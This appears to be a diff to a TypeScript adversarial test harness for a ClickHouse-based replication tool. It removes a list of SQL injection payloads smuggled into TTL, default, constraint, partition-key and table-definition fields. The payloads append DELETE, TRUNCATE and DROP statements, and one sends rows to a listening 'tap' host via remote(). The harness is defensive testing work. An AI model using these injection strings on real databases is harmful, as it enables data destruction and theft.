@@ -4,13 +4,12 @@ import fc from "fast-check";
 import { settingsOf } from "../sites/settings.ts";
 import { outsideQuotes } from "../sites/outside_quotes.ts";
 import { liar, type Lie, lieAboutSite, lieAboutTable } from "./hostile_answers.ts";
-import { LONG, MARKS, TAP } from "./hostile_deeds.ts";
+import { MARKS } from "./hostile_deeds.ts";
 import { type Mode, type Ran, runMode } from "./hostile_modes.ts";
 import { FILLED, type SiteRole, type Stand, TABLE_COUNT, USERS } from "./hostile_stand.ts";
 
 /** Lies of one run: a check takes longer than a table in it. */
 export const LIES = 10;
-const DELETION = "ALTER TABLE d.victim DELETE WHERE 1 --";
 /** Seconds that a run may take, whatever it is told. */
 const PATIENCE_SECONDS = 60;
 
@@ -82,7 +81,8 @@ export async function attack(stand: Stand, { liar: from, mode, user, json, lies 
       .map((text): Hole => ({ kind: "sent", text })),
     ...stand.tap.heard().filter((pid) => pid === stand.sites[at === "active" ? "primary" : "dr"].server.pid)
       .map((): Hole => ({ kind: "called", text: `the ${at} site connected to the tap` })),
-    ...outputHoles(ran, json),
+    // What is printed is for this site: its own words may stand in it.
+    ...outputHoles(ran, json && from === "active"),
   ];
   const same = (role: SiteRole) => before[role].symmetricDifference(after[role]).size === 0;
   const own = changes(before[from], after[from], lies, mode, from);
@@ -175,65 +175,6 @@ function printed(output: string): string[] {
 /** Modes that take a moment, and those that take seconds whatever they are told. */
 export const QUICK = ["dry-run", "once", "create", "evidence", "doctor"] as const satisfies Mode[];
 export const SLOW = ["daemon", "drill"] as const satisfies Mode[];
-
-/** Lies and texts that once got through, or would have: a deletion, a TRUNCATE, rows sent to a stranger. */
-export const KNOWN: readonly (readonly [carrier: string, text: string])[] = [
-  ["row TTL", `now() /*((((*/, 0)) <= 1, 0) PARALLEL WITH ${DELETION}`],
-  ["row TTL, condition", `1 /*((((*/) AND 1, 0) PARALLEL WITH ${DELETION}`],
-  ["row TTL with a condition", `now() /*((((*/, 0)) <= 1, 0) PARALLEL WITH ${DELETION}`],
-  ["TTL GROUP BY, time", `now() /*((((*/, 0)) <= 1, 0) PARALLEL WITH ${DELETION}`],
-  ["row TTL", `ts + (SELECT count() FROM remote('${TAP}', vault.victim))`],
-  ["row TTL, condition", "(SELECT count() FROM vault.victim)"],
-  ["column TTL", "now() + (SELECT count() FROM vault.victim)"],
-  ["constraint", "now() /*((((*/, 0)) <= 1, 0) PARALLEL WITH TRUNCATE TABLE vault.victim --"],
-  ["default", "(SELECT count() FROM vault.victim)"],
-  ["partition key", "(k, ts) FORMAT JSON\nDROP TABLE d.victim SYNC --"],
-  ["new column", "x` String DEFAULT 1; DROP TABLE d.victim --"],
-  ["new table, end", " PARALLEL WITH TRUNCATE TABLE vault.victim"],
-  ["new table, settings", "index_granularity = 8192 PARALLEL WITH DROP DATABASE vault"],
-  ["new table, default", "(SELECT count() FROM vault.victim)"],
-  ["new table, TTL", "ts + (SELECT count() FROM vault.victim)"],
-  ["new table, engine", "ReplicatedMergeTree('/pwned', 'r') ORDER BY k"],
-  ["new table of another name", "d.pwned"],
-  ["new view", " PARALLEL WITH TRUNCATE TABLE vault.victim"],
-];
-
-/** Carriers of texts that the program reads closely. */
-const READ_CLOSELY = [
-  ...[
-    "row TTL",
-    "row TTL, condition",
-    "TTL GROUP BY, keys",
-    "TTL RECOMPRESS",
-    "column TTL",
-    "default",
-    "column type",
-  ],
-  ...[
-    "constraint",
-    "index",
-    "engine's arguments",
-    "settings",
-    "partition key",
-    "engine clause",
-    "definition",
-  ],
-  ...[
-    "end of the definition",
-    "new table, end",
-    "new table, column",
-    "new table, TTL",
-    "target of a view",
-    "new view",
-  ],
-];
-
-/** Every long text once by every carrier that is read closely, in an order that the seed gives. */
-export function longLies(seed: number): Lie[] {
-  const pairs = READ_CLOSELY.flatMap((carrier) => Object.values(LONG).map((text) => ({ carrier, text })));
-  const [shuffled] = fc.sample(fc.shuffledSubarray(pairs, { minLength: pairs.length }), { seed, numRuns: 1 });
-  return shuffled!.map((pair, at) => ({ ...pair, table: at % TABLE_COUNT }));
-}
 
 /** Throws where one of them gets through; each check hears as many as there are tables. */
 export async function hostileLies(
